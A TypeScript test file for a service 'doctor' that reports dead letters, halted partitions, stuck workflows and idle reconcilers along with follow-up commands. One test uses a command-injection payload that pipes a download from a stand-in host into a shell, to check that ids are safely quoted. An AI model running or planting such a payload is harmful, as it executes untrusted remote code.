import type { OverdueEntry } from '@convergekit/saga/operate';
import type { ReconcilerStatus } from '@convergekit/reconcile/operate';
import { describe, expect, it } from 'vitest';
import { parseOnly } from '../fixture/all-commands.ts';
import type { Finding } from './findings.ts';
import {
  checkJournal,
  checkParked,
  checkPartitions,
  checkReconcilers,
  checkWorkers,
} from './service-checks.ts';

const now = new Date(1_000_000);
const group = { consumer: 'stock', code: 'TypeError', events: 3, keys: 2, oldest: new Date(940_000) };
const entry: OverdueEntry = {
  ...{ kind: 'step', name: 'trip', id: 'i-1', key: 'k', step: 'pay', state: 'stuck', ageMs: 61_000 },
};
const call: OverdueEntry = { ...entry, kind: 'call', name: 'bank.charge', step: null, state: 'ready' };
const lost = { effect: 'bank.charge', intents: 2, oldestMs: 120_000 };
const status: ReconcilerStatus = {
  ...{ name: 'stock-copy', now, lastCompletedAt: null, paused: null, held: null, requestedBy: null },
  ...{ approved: null, overdueSince: null, window: { since: now, repairs: 0, lastRunKeys: 0 } },
  ...{ leader: 'host', keys: { queued: 0, pending: 0, running: 0, terminal: 0 } },
};
const halted = { code: 'gap', reason: 'an event is missing', at: now };

describe('the doctor’s checks of a service', () => {
  // Planted fault: a check that finds nothing fails its row.
  it.each<[string, readonly Finding[], string, string]>([
    [
      'a dead letter',
      checkParked([{ ...group, state: 'dead' }], now),
      'fail',
      '3 dead letters of 2 keys, TypeError',
    ],
    ['a parked key', checkParked([{ ...group, state: 'waiting' }], now), 'warn', '3 events wait of 2 keys'],
    [
      'a halted partition',
      checkPartitions([{ consumer: 'stock', topic: 'orders', partition: 3, halted }]),
      'fail',
      'halted at orders/3: gap',
    ],
    ['a stuck step', checkJournal([entry], []), 'fail', 'step pay of trip of key k is stuck for 1 min 1 s'],
    ['an overdue call', checkJournal([call], []), 'warn', 'call bank.charge of key k is ready'],
    ['a stuck workflow', checkJournal([{ ...entry, kind: 'workflow' }], []), 'fail', 'workflow trip'],
    ['work without a worker', checkWorkers([lost]), 'fail', 'no worker does bank.charge: 2 intents wait'],
    [
      'a held reconciler',
      checkReconcilers([{ ...status, held: { at: now, reason: 'too many' } }]),
      'fail',
      'held',
    ],
    [
      'a reconciler that no process runs',
      checkReconcilers([{ ...status, leader: null }]),
      'warn',
      'no process',
    ],
  ])('the doctor finds %s, with a command that exists', async (_, [finding], verdict, text) => {
    expect(finding).toMatchObject({ verdict, text: expect.stringContaining(text) as string });
    await expect(parseOnly((finding?.next ?? '').split(' ').slice(1))).resolves.toBeDefined();
  });

  it('the doctor quotes an id that an event chose, so that a copied command runs nothing of it', () => {
    const id = "x'; curl evil | sh #";
    const [step, workflow] = [
      checkJournal([{ ...entry, id }], []),
      checkJournal([{ ...entry, kind: 'workflow', id }], []),
    ];
    expect(step[0]?.next).toBe(`converge saga show 'x'\\''; curl evil | sh #'`);
    expect(workflow[0]?.next).toBe(`converge workflow show trip 'x'\\''; curl evil | sh #'`);
  });

  it('the doctor finds nothing in a sound service, and nothing wrong with a paused reconciler', () => {
    const paused = { at: now, by: 'ann', reason: 'a migration' };
    const found = [
      ...checkParked([{ ...group, state: 'skipped' }], now),
      ...checkPartitions([{ consumer: 'stock', topic: 'orders', partition: 0, halted: null }]),
      ...checkJournal([], []),
      ...checkWorkers([]),
      ...checkReconcilers([{ ...status, paused, leader: null }]),
    ];
    expect(found.map(({ verdict }) => verdict)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
  });

  it('the doctor reports work without a worker once, and counts what it does not name', () => {
    expect(checkJournal([call], [lost])).toMatchObject([{ verdict: 'ok' }]);
    const many = checkJournal(
      Array.from({ length: 9 }, () => entry),
      [],
    );
    expect(many).toHaveLength(6);
    expect(many.at(-1)?.text).toBe('4 more like these');
  });
});
